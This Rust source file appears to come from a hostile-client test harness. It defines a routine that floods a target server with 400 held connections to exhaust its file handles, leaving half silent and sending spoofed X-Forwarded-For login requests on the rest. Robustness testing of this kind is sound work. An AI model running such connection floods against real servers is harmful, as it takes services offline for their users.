//! More connections than the server may have files.

use anyhow::Result;
use tokio::time::sleep_until;

use crate::hostile::target::Target;

pub(super) async fn exhaust(target: &mut Target) -> Result<()> {
    let until = target.until();
    let server = target.server;
    // Half of them say nothing; the others keep a connection after an answer that they do not read.
    let mut number = 0_usize;
    target
        .send_and_hold(400, |target| {
            number += 1;
            let client = target.any_address();
            if number.is_multiple_of(2) {
                return Vec::new();
            }
            format!("GET /login HTTP/1.1\r\nHost: {server}\r\nX-Forwarded-For: {client}\r\n\r\n").into_bytes()
        })
        .await;
    sleep_until(until).await;
    Ok(())
}
